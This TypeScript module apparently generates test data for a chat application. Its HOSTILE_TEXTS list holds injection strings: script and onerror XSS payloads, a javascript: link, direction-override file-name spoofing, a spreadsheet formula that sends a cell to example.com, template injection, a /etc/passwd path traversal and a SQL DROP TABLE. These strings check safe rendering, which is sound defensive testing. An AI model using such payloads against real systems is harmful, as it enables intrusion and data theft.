import type { Choices } from "../random";
import type { World } from "./world";

/** Rows of customers that are odd on purpose. */
export const HOSTILE_CUSTOMER = 0;
export const LONG_NAME_CUSTOMER = 1;
export const EMOJI_CUSTOMER = 2;

export const LONG_NAME =
  "Wolfeschlegelsteinhausenbergerdorff Maximiliana Theodora Friederike-Antoinette zu Hohenbruck-Sonnenthal und Altmarkt, geborene Freifrau von der Lindenau-Wallersee, c/o Northlight Handelsgesellschaft mbH & Co.";

export const HOSTILE_NAME = '<img src=x onerror="document.title=1"> Robert\u202Egnp.exe';

/** Text that must reach the screen as text: markup, script addresses, direction overrides, invisible characters. */
export const HOSTILE_TEXTS: Choices<string> = [
  "<script>document.body.innerHTML = 'script ran'</script>",
  "[Click here to see your invoice](javascript:document.title='link%20ran')",
  '<img src="x" onerror="document.title=\'image ran\'"><b>not bold</b>',
  "The attachment is invoice_\u202Efdp.exe and the account is pay\u200Bpal\u2060.example.com",
  '=HYPERLINK("https://example.com/?leak="&A1,"open")',
  "{{constructor.constructor('return 1')()}} #{7*7} %s %n \u0000 ../../etc/passwd'; DROP TABLE chats;--",
  "Z\u0351\u036B\u0343a\u0338\u0321l\u0358g\u0340o\u0315 \uFEFF\u2066\u2067nested\u2069 isolate left open",
];

/** Customer and agent take turns and the customer has both ends, so each hostile chat holds every hostile text. */
export const HOSTILE_MESSAGES = 13;

/** Chats that stand out, by row. Small worlds have none of them. */
export type SpecialChat = "marathon" | "long" | "single" | "essay" | "hostile";

export const MARATHON_MESSAGES = 10_000;
export const LONG_MESSAGES = 250;
export const ESSAY_LENGTH = 4000;
const WORLD_MIN = 60;

export function specialChats(world: World): ReadonlyMap<number, SpecialChat> {
  const count = world.chatCount;
  if (count < WORLD_MIN) return new Map();
  return new Map<number, SpecialChat>([
    [Math.floor(count * 0.3), "hostile"],
    [Math.floor(count * 0.5), "long"],
    [Math.floor(count * 0.55), "hostile"],
    [Math.floor(count * 0.9), "long"],
    [Math.floor(count * 0.97), "hostile"],
    [Math.floor(count * 0.98), "hostile"],
    [count - 47, "long"],
    [count - 43, "marathon"],
    [count - 7, "essay"],
    [count - 3, "single"],
  ]);
}
